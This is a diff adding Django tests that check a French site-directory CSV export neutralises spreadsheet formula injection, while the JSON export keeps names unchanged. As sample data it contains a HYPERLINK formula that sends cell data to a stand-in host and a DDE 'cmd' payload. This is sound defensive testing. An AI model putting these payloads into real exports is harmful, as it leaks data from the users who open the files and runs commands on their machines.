@@ -67,3 +67,30 @@ def test_the_command_writes_json_and_says_what_it_left_out(tmp_path):
     assert "1 : pivot (SIRET, RNA ou RIDET) inconnu, alors que le schéma l'exige" in out.getvalue()
     record = json.loads(path.read_text(encoding="utf-8"))[0]
     assert record["pivot"] == "43493312300029" and record["typologie"] == [] and record["telephone"] is None
+
+
+FORMULA_NAME = '=HYPERLINK("https://exemple.invalid/?vol="&A1;"Cliquez")'
+
+
+def test_a_site_named_like_a_formula_is_exported_as_text_by_export_sites(tmp_path):
+    SiteFactory(pivot="43493312300029", name=FORMULA_NAME, phone="+33180056789", longitude=-1.5536)
+    path = tmp_path / "lieux.csv"
+    call_command("export_sites", "--format", "lieux-v1-csv", "--output", str(path), stdout=io.StringIO())
+    row = next(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+    assert row["nom"] == "'" + FORMULA_NAME
+    # What the national schema requires stays valid: a "+33" phone and a negative longitude are numbers, not formulas.
+    assert row["telephone"] == "+33180056789" and row["longitude"] == "-1.5536"
+
+
+def test_a_site_named_like_a_formula_is_published_as_text_by_opendata_export(tmp_path):
+    SiteFactory(pivot="43493312300029", name="@SUM(1+1)*cmd|' /C calc'!A0")
+    call_command("opendata_export", "--output", str(tmp_path), "--to", "2025-01", stdout=io.StringIO())
+    row = next(csv.DictReader(io.StringIO((tmp_path / "lieux.csv").read_text(encoding="utf-8"))))
+    assert row["nom"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_the_json_export_keeps_the_name_as_it_is(tmp_path):
+    SiteFactory(pivot="43493312300029", name=FORMULA_NAME)
+    path = tmp_path / "lieux.json"
+    call_command("export_sites", "--format", "lieux-v1-json", "--output", str(path), stdout=io.StringIO())
+    assert json.loads(path.read_text(encoding="utf-8"))[0]["nom"] == FORMULA_NAME
